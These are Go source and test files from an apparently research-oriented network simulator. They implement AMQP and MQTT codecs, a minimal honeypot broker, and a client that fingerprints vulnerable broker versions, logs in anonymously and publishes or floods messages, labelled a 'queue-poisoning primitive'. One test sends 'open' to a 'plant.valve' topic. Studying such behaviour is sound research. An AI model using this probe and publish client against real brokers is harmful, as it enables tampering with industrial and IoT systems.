	props, err := Probe(client, time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if props.Version != "2.8.4" {
		t.Fatalf("version %q", props.Version)
	}
	if !KnownVulnerableVersions[props.Version] {
		t.Fatal("probe missed vulnerable version")
	}
}

func TestProbeBadGreetingAnswered(t *testing.T) {
	client, closeFn := startBroker(t, ServerConfig{})
	defer closeFn()
	if _, err := client.Write([]byte("GET / HT")); err != nil {
		t.Fatal(err)
	}
	buf := make([]byte, 8)
	_ = client.SetReadDeadline(time.Now().Add(time.Second))
	n, _ := client.Read(buf)
	if !IsAMQP(buf[:n]) {
		t.Fatalf("bad greeting answer %q", buf[:n])
	}
}

func TestConnectAnonymousAccepted(t *testing.T) {
	var events []Event
	client, closeFn := startBroker(t, ServerConfig{
		Properties: ServerProperties{Product: "RabbitMQ", Version: "3.8.9",
			Mechanisms: []string{"PLAIN", "ANONYMOUS"}},
		OnEvent: func(ev Event) { events = append(events, ev) },
	})
	defer closeFn()
	sess, ok, err := Connect(client, "ANONYMOUS", "", "", time.Second)
	if err != nil || !ok {
		t.Fatalf("Connect = %v, %v", ok, err)
	}
	if err := sess.Publish("amq.topic", "plant.valve", []byte("open")); err != nil {
		t.Fatal(err)
	}
	// Find the publish event.
	deadline := time.Now().Add(time.Second)
	for time.Now().Before(deadline) {
		for _, ev := range events {
			if ev.Kind == EventPublish && string(ev.Body) == "open" && ev.Exchange == "amq.topic" {
				return
			}
		}
		time.Sleep(5 * time.Millisecond)
	}
	t.Fatalf("publish not observed; events: %+v", events)
}

func TestConnectAuthRejected(t *testing.T) {
	client, closeFn := startBroker(t, ServerConfig{
		RequireAuth: true,
		Credentials: map[string]string{"svc": "hunter2"},
	})
	defer closeFn()
	_, ok, err := Connect(client, "PLAIN", "svc", "wrong", time.Second)
	if err != nil {
		t.Fatal(err)
	}
	if ok {
		t.Fatal("wrong password admitted")
	}
}

func TestConnectAuthAccepted(t *testing.T) {
	client, closeFn := startBroker(t, ServerConfig{
		RequireAuth: true,
		Credentials: map[string]string{"svc": "hunter2"},
	})
	defer closeFn()
	_, ok, err := Connect(client, "PLAIN", "svc", "hunter2", time.Second)
	if err != nil || !ok {
		t.Fatalf("Connect = %v, %v", ok, err)
	}
}

func TestFloodGuardClosesSession(t *testing.T) {
	client, closeFn := startBroker(t, ServerConfig{MaxPublishes: 3})
	defer closeFn()
	sess, ok, err := Connect(client, "PLAIN", "", "", time.Second)
	if err != nil || !ok {
		t.Fatal(err)
	}
	failed := false
	for i := 0; i < 50; i++ {
		if sess.Publish("x", "y", []byte("flood")) != nil {
			failed = true
			break
		}
		time.Sleep(time.Millisecond)
	}
	if !failed {
		t.Fatal("flood never failed: broker did not close the session")
	}
}

func BenchmarkStartFrameRoundTrip(b *testing.B) {
	props := ServerProperties{Product: "RabbitMQ", Version: "3.8.9",
		Mechanisms: []string{"PLAIN"}}
	b.ReportAllocs()
	for i := 0; i < b.N; i++ {
		if _, err := ParseStart(StartFrame(props)); err != nil {
			b.Fatal(err)
		}
	}
}
