// Package amqp implements the AMQP 0-9-1 connection preamble: the protocol
// header exchange and the connection.start frame whose server-properties
// table leaks product, version and the supported SASL mechanisms.
//
// The paper scans port 5672 and inspects the connection.start metadata for
// product/version (matching known-vulnerable releases such as RabbitMQ
// 2.7.1/2.8.4, Table 2) and for servers that offer no meaningful
// authentication. Full channel/exchange semantics are out of scope for the
// probe; the broker side additionally accepts publishes so honeypots can
// observe queue-poisoning and flood attacks (Section 5.1.2).
package amqp

import (
	"encoding/binary"
	"errors"
	"fmt"
	"sort"
	"strings"
)

// ProtocolHeader is the 8-byte AMQP 0-9-1 client greeting.
var ProtocolHeader = []byte{'A', 'M', 'Q', 'P', 0, 0, 9, 1}

// Port is the standard AMQP port the paper scans.
const Port uint16 = 5672

// Frame types (AMQP 0-9-1 §4.2.3).
const (
	FrameMethod    = 1
	FrameHeader    = 2
	FrameBody      = 3
	FrameHeartbeat = 8
	frameEnd       = 0xCE
)

// Method identifiers used by the preamble and the minimal broker.
const (
	ClassConnection = 10
	MethodStart     = 10
	MethodStartOK   = 11
	MethodTune      = 30
	MethodTuneOK    = 31
	MethodOpen      = 40
	MethodOpenOK    = 41
	MethodClose     = 50
	MethodCloseOK   = 51
	ClassBasic      = 60
	MethodPublish   = 40
)

// Errors returned by the codec.
var (
	ErrMalformed   = errors.New("amqp: malformed frame")
	ErrBadHeader   = errors.New("amqp: bad protocol header")
	ErrFrameTooBig = errors.New("amqp: frame exceeds limit")
)

// maxFrameSize bounds decoded frames.
const maxFrameSize = 1 << 20

// Frame is a raw AMQP frame.
type Frame struct {
	Type    byte
	Channel uint16
	Payload []byte
}

// Marshal renders the frame with the 0xCE end octet.
func (f *Frame) Marshal() []byte {
	out := make([]byte, 0, 8+len(f.Payload))
	out = append(out, f.Type)
	out = binary.BigEndian.AppendUint16(out, f.Channel)
	out = binary.BigEndian.AppendUint32(out, uint32(len(f.Payload)))
	out = append(out, f.Payload...)
	return append(out, frameEnd)
}

// ParseFrame decodes one frame from raw, returning the remainder.
func ParseFrame(raw []byte) (*Frame, []byte, error) {
	if len(raw) < 7 {
		return nil, raw, ErrMalformed
	}
	size := binary.BigEndian.Uint32(raw[3:7])
	if size > maxFrameSize {
		return nil, raw, ErrFrameTooBig
	}
	total := 7 + int(size) + 1
	if len(raw) < total {
		return nil, raw, ErrMalformed
	}
	if raw[total-1] != frameEnd {
		return nil, raw, ErrMalformed
	}
	return &Frame{
		Type:    raw[0],
		Channel: binary.BigEndian.Uint16(raw[1:3]),
		Payload: append([]byte(nil), raw[7:total-1]...),
	}, raw[total:], nil
}

// ServerProperties is the identity table carried in connection.start.
type ServerProperties struct {
	Product    string
	Version    string
	Platform   string
	Mechanisms []string // SASL mechanisms ("PLAIN", "AMQPLAIN", "ANONYMOUS")
	Locales    []string
}

// StartFrame renders the connection.start method frame.
func StartFrame(p ServerProperties) *Frame {
	var body []byte
	body = binary.BigEndian.AppendUint16(body, ClassConnection)
	body = binary.BigEndian.AppendUint16(body, MethodStart)
	body = append(body, 0, 9) // version-major, version-minor

	table := encodeTable(map[string]string{
		"product":  p.Product,
		"version":  p.Version,
		"platform": p.Platform,
	})
	body = binary.BigEndian.AppendUint32(body, uint32(len(table)))
	body = append(body, table...)

	mech := strings.Join(p.Mechanisms, " ")
	body = binary.BigEndian.AppendUint32(body, uint32(len(mech)))
	body = append(body, mech...)

	locales := strings.Join(orDefault(p.Locales, []string{"en_US"}), " ")
	body = binary.BigEndian.AppendUint32(body, uint32(len(locales)))
	body = append(body, locales...)

	return &Frame{Type: FrameMethod, Channel: 0, Payload: body}
}

func orDefault(v, def []string) []string {
	if len(v) == 0 {
		return def
	}
	return v
}

// encodeTable renders a field table of short-string → long-string pairs,
// sorted for deterministic wire bytes.
func encodeTable(m map[string]string) []byte {
	keys := make([]string, 0, len(m))
	for k := range m {
		keys = append(keys, k)
	}
	sort.Strings(keys)
	var out []byte
	for _, k := range keys {
		out = append(out, byte(len(k)))
		out = append(out, k...)
		out = append(out, 'S')
		out = binary.BigEndian.AppendUint32(out, uint32(len(m[k])))
		out = append(out, m[k]...)
	}
	return out
}

// ParseStart decodes a connection.start frame back into ServerProperties.
// This is the probe's banner parser.
func ParseStart(f *Frame) (*ServerProperties, error) {
	if f.Type != FrameMethod {
		return nil, ErrMalformed
	}
	p := f.Payload
	if len(p) < 6 {
		return nil, ErrMalformed
	}
	if binary.BigEndian.Uint16(p[0:2]) != ClassConnection || binary.BigEndian.Uint16(p[2:4]) != MethodStart {
		return nil, fmt.Errorf("amqp: not connection.start")
	}
	p = p[6:] // skip class, method, version bytes

	table, p, err := readLongBytes(p)
	if err != nil {
		return nil, err
	}
	props := decodeTable(table)

	mech, p, err := readLongBytes(p)
	if err != nil {
		return nil, err
	}
	locales, _, err := readLongBytes(p)
	if err != nil {
		return nil, err
	}
	out := &ServerProperties{
		Product:  props["product"],
		Version:  props["version"],
		Platform: props["platform"],
	}
	if len(mech) > 0 {
		out.Mechanisms = strings.Fields(string(mech))
	}
	if len(locales) > 0 {
		out.Locales = strings.Fields(string(locales))
	}
	return out, nil
}

func readLongBytes(p []byte) ([]byte, []byte, error) {
	if len(p) < 4 {
		return nil, p, ErrMalformed
	}
	n := binary.BigEndian.Uint32(p)
	if int(n) > len(p)-4 {
		return nil, p, ErrMalformed
	}
	return p[4 : 4+n], p[4+n:], nil
}

func decodeTable(t []byte) map[string]string {
	out := make(map[string]string)
	for len(t) > 0 {
		klen := int(t[0])
		if len(t) < 1+klen+1 {
			return out
		}
		key := string(t[1 : 1+klen])
		t = t[1+klen:]
		typ := t[0]
		t = t[1:]
		if typ != 'S' || len(t) < 4 {
			return out // only long-strings supported; stop on anything else
		}
		vlen := int(binary.BigEndian.Uint32(t))
		if len(t) < 4+vlen {
			return out
		}
		out[key] = string(t[4 : 4+vlen])
		t = t[4+vlen:]
	}
	return out
}

// KnownVulnerableVersions are the versions whose presence alone the paper
// counts as misconfigurations (Table 2: "Version: 2.7.1", "Version: 2.8.4"
// — ancient RabbitMQ releases with published CVEs and default-open guest
// access).
var KnownVulnerableVersions = map[string]bool{
	"2.7.1": true,
	"2.8.4": true,
}
