package amqp

import (
	"bytes"
	"encoding/binary"
	"io"
	"net"
	"time"
)

// Probe performs the paper's AMQP banner grab over an established
// connection: send the protocol header, read connection.start, and return
// the server properties without completing authentication.
func Probe(conn net.Conn, timeout time.Duration) (*ServerProperties, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(ProtocolHeader); err != nil {
		return nil, err
	}
	f, err := readFrame(conn)
	if err != nil {
		return nil, err
	}
	return ParseStart(f)
}

// Session is an authenticated client session for attack actors.
type Session struct {
	conn  net.Conn
	props *ServerProperties
}

// Connect performs the full preamble: header, start/start-ok with the given
// mechanism and credentials, tune-ok and open. It reports whether the broker
// admitted the session.
func Connect(conn net.Conn, mechanism, user, pass string, timeout time.Duration) (*Session, bool, error) {
	if timeout <= 0 {
		timeout = 5 * time.Second
	}
	_ = conn.SetDeadline(time.Now().Add(timeout))
	if _, err := conn.Write(ProtocolHeader); err != nil {
		return nil, false, err
	}
	start, err := readFrame(conn)
	if err != nil {
		return nil, false, err
	}
	props, err := ParseStart(start)
	if err != nil {
		return nil, false, err
	}
	if _, err := conn.Write(StartOKFrame(mechanism, user, pass).Marshal()); err != nil {
		return nil, false, err
	}
	// Expect tune (admitted) or connection.close 403 (rejected).
	f, err := readFrame(conn)
	if err != nil {
		if err == io.EOF || err == io.ErrUnexpectedEOF {
			return nil, false, nil
		}
		return nil, false, err
	}
	if f.Type == FrameMethod && len(f.Payload) >= 4 {
		class := binary.BigEndian.Uint16(f.Payload[0:2])
		method := binary.BigEndian.Uint16(f.Payload[2:4])
		if class == ClassConnection && method == MethodClose {
			return nil, false, nil
		}
		if class == ClassConnection && method == MethodTune {
			// tune-ok then open
			var tuneOK []byte
			tuneOK = binary.BigEndian.AppendUint16(tuneOK, ClassConnection)
			tuneOK = binary.BigEndian.AppendUint16(tuneOK, MethodTuneOK)
			tuneOK = append(tuneOK, f.Payload[4:]...)
			if _, err := conn.Write((&Frame{Type: FrameMethod, Payload: tuneOK}).Marshal()); err != nil {
				return nil, false, err
			}
			var open []byte
			open = binary.BigEndian.AppendUint16(open, ClassConnection)
			open = binary.BigEndian.AppendUint16(open, MethodOpen)
			open = append(open, 1, '/')
			if _, err := conn.Write((&Frame{Type: FrameMethod, Payload: open}).Marshal()); err != nil {
				return nil, false, err
			}
			if _, err := readFrame(conn); err != nil { // open-ok
				return nil, false, err
			}
			return &Session{conn: conn, props: props}, true, nil
		}
	}
	return nil, false, ErrMalformed
}

// Properties returns the server identity captured at connect.
func (s *Session) Properties() *ServerProperties { return s.props }

// Publish sends a basic.publish — the queue-poisoning primitive.
func (s *Session) Publish(exchange, routingKey string, body []byte) error {
	_ = s.conn.SetWriteDeadline(time.Now().Add(5 * time.Second))
	_, err := s.conn.Write(PublishFrame(exchange, routingKey, body).Marshal())
	return err
}

// Close sends connection.close and closes the transport.
func (s *Session) Close() error {
	var body []byte
	body = binary.BigEndian.AppendUint16(body, ClassConnection)
	body = binary.BigEndian.AppendUint16(body, MethodClose)
	body = binary.BigEndian.AppendUint16(body, 200)
	_, _ = s.conn.Write((&Frame{Type: FrameMethod, Payload: body}).Marshal())
	return s.conn.Close()
}

// IsAMQP reports whether a server greeting looks like an AMQP rejection
// header (servers answer bad greetings with their supported header).
func IsAMQP(greeting []byte) bool {
	return bytes.HasPrefix(greeting, []byte("AMQP"))
}
