package amqp

import (
	"bytes"
	"context"
	"encoding/binary"
	"io"
	"time"

	"openhire/internal/netsim"
)

// EventKind classifies broker-side observations.
type EventKind uint8

// Broker event kinds.
const (
	EventHandshake EventKind = iota
	EventStartOK             // client answered connection.start (credentials seen)
	EventPublish             // basic.publish (queue poisoning / flood)
)

// Event is one broker observation.
type Event struct {
	Time      time.Time
	Kind      EventKind
	Remote    netsim.IPv4
	Mechanism string
	Username  string
	Exchange  string
	Body      []byte
}

// ServerConfig configures the minimal AMQP broker.
type ServerConfig struct {
	Properties ServerProperties
	// RequireAuth rejects ANONYMOUS/guest logins. Misconfigured brokers
	// (Table 5: 2,731 devices) leave this unset.
	RequireAuth bool
	// Credentials maps username → password for PLAIN auth.
	Credentials map[string]string
	// OnEvent, when non-nil, receives observations.
	OnEvent func(Event)
	// MaxPublishes closes the session after this many publishes (0 = 1000);
	// the flood guard mirrors the DoS behaviour seen on HosTaGe.
	MaxPublishes int
}

// Server is a minimal AMQP 0-9-1 broker: header exchange, start/start-ok,
// tune, open, then it accepts basic.publish frames.
type Server struct {
	cfg ServerConfig
}

// NewServer builds a Server.
func NewServer(cfg ServerConfig) *Server {
	if cfg.Properties.Product == "" {
		cfg.Properties = ServerProperties{
			Product: "RabbitMQ", Version: "3.8.9", Platform: "Erlang/OTP 23",
			Mechanisms: []string{"PLAIN", "AMQPLAIN"},
		}
	}
	if cfg.MaxPublishes == 0 {
		cfg.MaxPublishes = 1000
	}
	return &Server{cfg: cfg}
}

func (s *Server) emit(ev Event) {
	if s.cfg.OnEvent != nil {
		s.cfg.OnEvent(ev)
	}
}

// Serve implements netsim.StreamHandler.
func (s *Server) Serve(ctx context.Context, conn *netsim.ServiceConn) {
	remote, _ := netsim.RemoteIPv4(conn)
	_ = conn.SetDeadline(time.Now().Add(30 * time.Second))

	hdr := make([]byte, 8)
	if _, err := io.ReadFull(conn, hdr); err != nil {
		return
	}
	if !bytes.Equal(hdr, ProtocolHeader) {
		// Spec: answer a bad greeting with the supported header and close.
		_, _ = conn.Write(ProtocolHeader)
		return
	}
	s.emit(Event{Time: conn.DialTime, Kind: EventHandshake, Remote: remote})
	if _, err := conn.Write(StartFrame(s.cfg.Properties).Marshal()); err != nil {
		return
	}

	// Read connection.start-ok with the client's mechanism and response.
	f, err := readFrame(conn)
	if err != nil {
		return
	}
	mech, user, pass := parseStartOK(f)
	s.emit(Event{Time: conn.DialTime, Kind: EventStartOK, Remote: remote,
		Mechanism: mech, Username: user})
	if s.cfg.RequireAuth {
		want, ok := s.cfg.Credentials[user]
		if mech == "ANONYMOUS" || !ok || want != pass {
			// connection.close with 403.
			var body []byte
			body = binary.BigEndian.AppendUint16(body, ClassConnection)
			body = binary.BigEndian.AppendUint16(body, MethodClose)
			body = binary.BigEndian.AppendUint16(body, 403)
			_, _ = conn.Write((&Frame{Type: FrameMethod, Payload: body}).Marshal())
			return
		}
	}

	// tune → (tune-ok) → open-ok handshake, heavily simplified: we send
	// tune and open-ok proactively and then consume whatever arrives.
	var tune []byte
	tune = binary.BigEndian.AppendUint16(tune, ClassConnection)
	tune = binary.BigEndian.AppendUint16(tune, MethodTune)
	tune = binary.BigEndian.AppendUint16(tune, 2047)   // channel-max
	tune = binary.BigEndian.AppendUint32(tune, 131072) // frame-max
	tune = binary.BigEndian.AppendUint16(tune, 60)     // heartbeat
	if _, err := conn.Write((&Frame{Type: FrameMethod, Payload: tune}).Marshal()); err != nil {
		return
	}

	publishes := 0
	for {
		f, err := readFrame(conn)
		if err != nil {
			return
		}
		if f.Type == FrameHeartbeat {
			_, _ = conn.Write((&Frame{Type: FrameHeartbeat}).Marshal())
			continue
		}
		if f.Type != FrameMethod || len(f.Payload) < 4 {
			continue
		}
		class := binary.BigEndian.Uint16(f.Payload[0:2])
		method := binary.BigEndian.Uint16(f.Payload[2:4])
		switch {
		case class == ClassConnection && method == MethodTuneOK:
			// nothing to send
		case class == ClassConnection && method == MethodOpen:
			var ok []byte
			ok = binary.BigEndian.AppendUint16(ok, ClassConnection)
			ok = binary.BigEndian.AppendUint16(ok, MethodOpenOK)
			ok = append(ok, 0) // reserved shortstr
			if _, err := conn.Write((&Frame{Type: FrameMethod, Payload: ok}).Marshal()); err != nil {
				return
			}
		case class == ClassConnection && method == MethodClose:
			var ok []byte
			ok = binary.BigEndian.AppendUint16(ok, ClassConnection)
			ok = binary.BigEndian.AppendUint16(ok, MethodCloseOK)
			_, _ = conn.Write((&Frame{Type: FrameMethod, Payload: ok}).Marshal())
			return
		case class == ClassBasic && method == MethodPublish:
			publishes++
			exchange, body := parsePublish(f)
			s.emit(Event{Time: conn.DialTime, Kind: EventPublish, Remote: remote,
				Exchange: exchange, Body: body})
			if publishes >= s.cfg.MaxPublishes {
				return
			}
		}
	}
}

// readFrame reads one frame from the stream.
func readFrame(conn io.Reader) (*Frame, error) {
	hdr := make([]byte, 7)
	if _, err := io.ReadFull(conn, hdr); err != nil {
		return nil, err
	}
	size := binary.BigEndian.Uint32(hdr[3:7])
	if size > maxFrameSize {
		return nil, ErrFrameTooBig
	}
	rest := make([]byte, size+1)
	if _, err := io.ReadFull(conn, rest); err != nil {
		return nil, err
	}
	if rest[size] != frameEnd {
		return nil, ErrMalformed
	}
	return &Frame{Type: hdr[0], Channel: binary.BigEndian.Uint16(hdr[1:3]),
		Payload: rest[:size]}, nil
}

// parseStartOK extracts mechanism and PLAIN credentials from start-ok.
func parseStartOK(f *Frame) (mech, user, pass string) {
	p := f.Payload
	if len(p) < 4 {
		return "", "", ""
	}
	p = p[4:] // class + method
	// client-properties table
	table, p, err := readLongBytes(p)
	if err != nil {
		return "", "", ""
	}
	_ = table
	// mechanism shortstr
	if len(p) < 1 || len(p) < 1+int(p[0]) {
		return "", "", ""
	}
	mech = string(p[1 : 1+int(p[0])])
	p = p[1+int(p[0]):]
	// response longstr: PLAIN is \x00user\x00pass
	resp, _, err := readLongBytes(p)
	if err != nil {
		return mech, "", ""
	}
	if mech == "PLAIN" {
		parts := bytes.Split(resp, []byte{0})
		if len(parts) == 3 {
			user, pass = string(parts[1]), string(parts[2])
		}
	}
	return mech, user, pass
}

// parsePublish extracts the exchange name; the body (if inlined by our
// simplified client after the method payload) follows a zero marker.
func parsePublish(f *Frame) (exchange string, body []byte) {
	p := f.Payload
	if len(p) < 6 {
		return "", nil
	}
	p = p[6:] // class, method, reserved-1
	if len(p) < 1 || len(p) < 1+int(p[0]) {
		return "", nil
	}
	exchange = string(p[1 : 1+int(p[0])])
	p = p[1+int(p[0]):]
	// routing key shortstr
	if len(p) >= 1 && len(p) >= 1+int(p[0]) {
		p = p[1+int(p[0]):]
	}
	if len(p) > 1 {
		body = p[1:] // skip flags octet
	}
	return exchange, body
}

// StartOKFrame builds a client start-ok answer with PLAIN credentials
// (empty user+pass probes anonymous access).
func StartOKFrame(mechanism, user, pass string) *Frame {
	var body []byte
	body = binary.BigEndian.AppendUint16(body, ClassConnection)
	body = binary.BigEndian.AppendUint16(body, MethodStartOK)
	body = binary.BigEndian.AppendUint32(body, 0) // empty client-properties
	body = append(body, byte(len(mechanism)))
	body = append(body, mechanism...)
	resp := "\x00" + user + "\x00" + pass
	if mechanism == "ANONYMOUS" {
		resp = ""
	}
	body = binary.BigEndian.AppendUint32(body, uint32(len(resp)))
	body = append(body, resp...)
	body = append(body, 5)
	body = append(body, "en_US"...)
	return &Frame{Type: FrameMethod, Payload: body}
}

// PublishFrame builds a simplified basic.publish frame carrying body inline.
func PublishFrame(exchange, routingKey string, body []byte) *Frame {
	var p []byte
	p = binary.BigEndian.AppendUint16(p, ClassBasic)
	p = binary.BigEndian.AppendUint16(p, MethodPublish)
	p = binary.BigEndian.AppendUint16(p, 0) // reserved-1
	p = append(p, byte(len(exchange)))
	p = append(p, exchange...)
	p = append(p, byte(len(routingKey)))
	p = append(p, routingKey...)
	p = append(p, 0) // flags
	p = append(p, body...)
	return &Frame{Type: FrameMethod, Payload: p}
}
