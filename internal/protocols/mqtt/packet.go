// Package mqtt implements the MQTT 3.1.1 protocol (OASIS standard) at wire
// level: packet codec, a small broker used by simulated IoT devices and the
// Dionaea/HosTaGe honeypot profiles, and a probing client.
//
// The paper scans port 1883 and flags brokers that answer CONNECT without
// credentials with return code 0 ("MQTT Connection Code:0", Table 2). Its
// honeypots observed $SYS topic access, topic data poisoning and message
// floods (Section 5.1.2); the broker here supports all of those behaviours.
package mqtt

import (
	"errors"
	"fmt"
	"io"
)

// PacketType identifies an MQTT control packet.
type PacketType byte

// MQTT 3.1.1 control packet types.
const (
	CONNECT     PacketType = 1
	CONNACK     PacketType = 2
	PUBLISH     PacketType = 3
	PUBACK      PacketType = 4
	SUBSCRIBE   PacketType = 8
	SUBACK      PacketType = 9
	UNSUBSCRIBE PacketType = 10
	UNSUBACK    PacketType = 11
	PINGREQ     PacketType = 12
	PINGRESP    PacketType = 13
	DISCONNECT  PacketType = 14
)

// String names the packet type.
func (t PacketType) String() string {
	switch t {
	case CONNECT:
		return "CONNECT"
	case CONNACK:
		return "CONNACK"
	case PUBLISH:
		return "PUBLISH"
	case PUBACK:
		return "PUBACK"
	case SUBSCRIBE:
		return "SUBSCRIBE"
	case SUBACK:
		return "SUBACK"
	case UNSUBSCRIBE:
		return "UNSUBSCRIBE"
	case UNSUBACK:
		return "UNSUBACK"
	case PINGREQ:
		return "PINGREQ"
	case PINGRESP:
		return "PINGRESP"
	case DISCONNECT:
		return "DISCONNECT"
	default:
		return fmt.Sprintf("TYPE(%d)", byte(t))
	}
}

// ConnackCode is the CONNACK return code. Code 0 is the paper's
// no-authentication misconfiguration indicator.
type ConnackCode byte

// CONNACK return codes (MQTT 3.1.1 §3.2.2.3).
const (
	ConnAccepted          ConnackCode = 0
	ConnBadProtocol       ConnackCode = 1
	ConnIDRejected        ConnackCode = 2
	ConnServerUnavailable ConnackCode = 3
	ConnBadCredentials    ConnackCode = 4
	ConnNotAuthorized     ConnackCode = 5
)

// Packet is a decoded MQTT control packet. Fields are populated according
// to Type; unused fields are zero.
type Packet struct {
	Type  PacketType
	Flags byte

	// CONNECT
	ClientID  string
	Username  string
	Password  string
	KeepAlive uint16
	HasAuth   bool

	// CONNACK
	ReturnCode     ConnackCode
	SessionPresent bool

	// PUBLISH
	Topic   string
	Payload []byte
	QoS     byte
	Retain  bool

	// SUBSCRIBE / SUBACK / UNSUBSCRIBE / acks
	PacketID    uint16
	TopicFilter []string
	GrantedQoS  []byte
}

// Wire-format errors.
var (
	ErrMalformed     = errors.New("mqtt: malformed packet")
	ErrPacketTooLong = errors.New("mqtt: remaining length exceeds limit")
)

// maxRemainingLength bounds decoded packets; real brokers allow 256 MB, we
// cap far lower since IoT payloads are small and floods should not allocate.
const maxRemainingLength = 1 << 20

// encodeRemainingLength appends the MQTT variable-length encoding of n.
func encodeRemainingLength(dst []byte, n int) []byte {
	for {
		b := byte(n % 128)
		n /= 128
		if n > 0 {
			b |= 0x80
		}
		dst = append(dst, b)
		if n == 0 {
			return dst
		}
	}
}

// decodeRemainingLength reads the variable-length remaining-length field.
func decodeRemainingLength(r io.Reader) (int, error) {
	var (
		n     int
		shift uint
		buf   [1]byte
	)
	for i := 0; i < 4; i++ {
		if _, err := io.ReadFull(r, buf[:]); err != nil {
			return 0, err
		}
		n |= int(buf[0]&0x7f) << shift
		if buf[0]&0x80 == 0 {
			return n, nil
		}
		shift += 7
	}
	return 0, ErrMalformed
}

func appendString(dst []byte, s string) []byte {
	dst = append(dst, byte(len(s)>>8), byte(len(s)))
	return append(dst, s...)
}

func readString(p []byte) (string, []byte, error) {
	if len(p) < 2 {
		return "", nil, ErrMalformed
	}
	n := int(p[0])<<8 | int(p[1])
	if len(p) < 2+n {
		return "", nil, ErrMalformed
	}
	return string(p[2 : 2+n]), p[2+n:], nil
}

// Encode serializes the packet to wire format.
func (p *Packet) Encode() []byte {
	var body []byte
	switch p.Type {
	case CONNECT:
		body = appendString(body, "MQTT")
		body = append(body, 4) // protocol level 3.1.1
		var flags byte = 0x02  // clean session
		if p.HasAuth {
			flags |= 0xC0 // username + password present
		}
		body = append(body, flags)
		body = append(body, byte(p.KeepAlive>>8), byte(p.KeepAlive))
		body = appendString(body, p.ClientID)
		if p.HasAuth {
			body = appendString(body, p.Username)
			body = appendString(body, p.Password)
		}
	case CONNACK:
		var sp byte
		if p.SessionPresent {
			sp = 1
		}
		body = []byte{sp, byte(p.ReturnCode)}
	case PUBLISH:
		body = appendString(body, p.Topic)
		if p.QoS > 0 {
			body = append(body, byte(p.PacketID>>8), byte(p.PacketID))
		}
		body = append(body, p.Payload...)
	case PUBACK, UNSUBACK:
		body = []byte{byte(p.PacketID >> 8), byte(p.PacketID)}
	case SUBSCRIBE:
		body = append(body, byte(p.PacketID>>8), byte(p.PacketID))
		for i, f := range p.TopicFilter {
			body = appendString(body, f)
			var q byte
			if i < len(p.GrantedQoS) {
				q = p.GrantedQoS[i]
			}
			body = append(body, q)
		}
	case SUBACK:
		body = append(body, byte(p.PacketID>>8), byte(p.PacketID))
		body = append(body, p.GrantedQoS...)
	case UNSUBSCRIBE:
		body = append(body, byte(p.PacketID>>8), byte(p.PacketID))
		for _, f := range p.TopicFilter {
			body = appendString(body, f)
		}
	case PINGREQ, PINGRESP, DISCONNECT:
		// empty body
	}

	flags := p.Flags
	switch p.Type {
	case SUBSCRIBE, UNSUBSCRIBE:
		flags = 0x02 // required reserved flags
	case PUBLISH:
		flags = p.QoS << 1
		if p.Retain {
			flags |= 1
		}
	}
	out := []byte{byte(p.Type)<<4 | flags}
	out = encodeRemainingLength(out, len(body))
	return append(out, body...)
}

// ReadPacket reads and decodes one packet from r.
func ReadPacket(r io.Reader) (*Packet, error) {
	var hdr [1]byte
	if _, err := io.ReadFull(r, hdr[:]); err != nil {
		return nil, err
	}
	length, err := decodeRemainingLength(r)
	if err != nil {
		return nil, err
	}
	if length > maxRemainingLength {
		return nil, ErrPacketTooLong
	}
	body := make([]byte, length)
	if _, err := io.ReadFull(r, body); err != nil {
		return nil, err
	}
	return decode(hdr[0], body)
}

func decode(hdr byte, body []byte) (*Packet, error) {
	p := &Packet{Type: PacketType(hdr >> 4), Flags: hdr & 0x0f}
	switch p.Type {
	case CONNECT:
		proto, rest, err := readString(body)
		if err != nil {
			return nil, err
		}
		if proto != "MQTT" && proto != "MQIsdp" {
			return nil, ErrMalformed
		}
		if len(rest) < 4 {
			return nil, ErrMalformed
		}
		flags := rest[1]
		p.KeepAlive = uint16(rest[2])<<8 | uint16(rest[3])
		rest = rest[4:]
		if p.ClientID, rest, err = readString(rest); err != nil {
			return nil, err
		}
		if flags&0x04 != 0 { // will flag: skip will topic + message
			if _, rest, err = readString(rest); err != nil {
				return nil, err
			}
			if _, rest, err = readString(rest); err != nil {
				return nil, err
			}
		}
		if flags&0x80 != 0 {
			p.HasAuth = true
			if p.Username, rest, err = readString(rest); err != nil {
				return nil, err
			}
		}
		if flags&0x40 != 0 {
			p.HasAuth = true
			if p.Password, _, err = readString(rest); err != nil {
				return nil, err
			}
		}
	case CONNACK:
		if len(body) != 2 {
			return nil, ErrMalformed
		}
		p.SessionPresent = body[0]&1 != 0
		p.ReturnCode = ConnackCode(body[1])
	case PUBLISH:
		var err error
		var rest []byte
		if p.Topic, rest, err = readString(body); err != nil {
			return nil, err
		}
		p.QoS = p.Flags >> 1 & 0x03
		p.Retain = p.Flags&1 != 0
		if p.QoS > 0 {
			if len(rest) < 2 {
				return nil, ErrMalformed
			}
			p.PacketID = uint16(rest[0])<<8 | uint16(rest[1])
			rest = rest[2:]
		}
		p.Payload = rest
	case PUBACK, UNSUBACK:
		if len(body) < 2 {
			return nil, ErrMalformed
		}
		p.PacketID = uint16(body[0])<<8 | uint16(body[1])
	case SUBSCRIBE, UNSUBSCRIBE:
		if len(body) < 2 {
			return nil, ErrMalformed
		}
		p.PacketID = uint16(body[0])<<8 | uint16(body[1])
		rest := body[2:]
		for len(rest) > 0 {
			var f string
			var err error
			if f, rest, err = readString(rest); err != nil {
				return nil, err
			}
			p.TopicFilter = append(p.TopicFilter, f)
			if p.Type == SUBSCRIBE {
				if len(rest) < 1 {
					return nil, ErrMalformed
				}
				p.GrantedQoS = append(p.GrantedQoS, rest[0])
				rest = rest[1:]
			}
		}
		if len(p.TopicFilter) == 0 {
			return nil, ErrMalformed
		}
	case SUBACK:
		if len(body) < 2 {
			return nil, ErrMalformed
		}
		p.PacketID = uint16(body[0])<<8 | uint16(body[1])
		p.GrantedQoS = body[2:]
	case PINGREQ, PINGRESP, DISCONNECT:
		// empty
	default:
		return nil, ErrMalformed
	}
	return p, nil
}

// TopicMatches reports whether topic matches filter under MQTT wildcard
// rules: '+' matches one level, '#' matches the remainder.
func TopicMatches(filter, topic string) bool {
	fi, ti := 0, 0
	for {
		fSeg, fNext := nextSegment(filter, fi)
		tSeg, tNext := nextSegment(topic, ti)
		switch {
		case fSeg == "#":
			return true
		case fi >= len(filter) && ti >= len(topic):
			return true
		case fi >= len(filter) || ti >= len(topic):
			return false
		case fSeg != "+" && fSeg != tSeg:
			return false
		}
		fi, ti = fNext, tNext
	}
}

